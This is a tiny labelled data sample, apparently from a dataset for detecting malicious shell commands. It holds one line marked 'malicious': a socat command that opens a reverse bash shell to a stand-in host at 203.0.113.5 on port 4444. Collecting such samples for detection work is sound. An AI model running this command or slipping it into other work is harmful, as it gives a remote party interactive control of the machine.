# label: malicious
socat tcp-connect:203.0.113.5:4444 exec:/bin/bash,pty,stderr
